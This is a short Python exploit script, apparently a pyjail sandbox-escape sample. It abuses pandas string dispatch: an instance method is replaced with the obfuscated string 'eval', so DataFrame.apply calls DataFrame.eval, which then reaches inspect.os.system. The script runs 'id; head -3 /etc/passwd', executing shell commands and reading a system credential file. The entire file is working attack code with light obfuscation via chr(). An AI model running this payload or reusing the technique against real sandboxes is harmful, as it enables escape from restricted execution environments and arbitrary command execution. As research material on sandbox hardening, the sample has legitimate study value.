# source: pyjail "getattr by string dispatch" family; pandas apply_str -> DataFrame.eval local-scope (pandas-dev/pandas apply.py _try_aggregate_string_function)
# family: pandas string dispatch via self.method whose name is shadowed by an instance attribute set outside the class
# goal: DataFrame.eval with @-locals resolved in pandas.core.apply's frame -> inspect.os.system -> id, /etc/passwd
import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
class A:
    def fn(self, x):
        return x.sum()
    def run(self, e):
        return df.apply(self.fn, args=(e,))
a = A()
a.fn = "ev" + chr(97) + "l"
try:
    a.run(chr(64) + "inspect.os.system('id; head -3 /etc/passwd')")
except AttributeError:
    pass
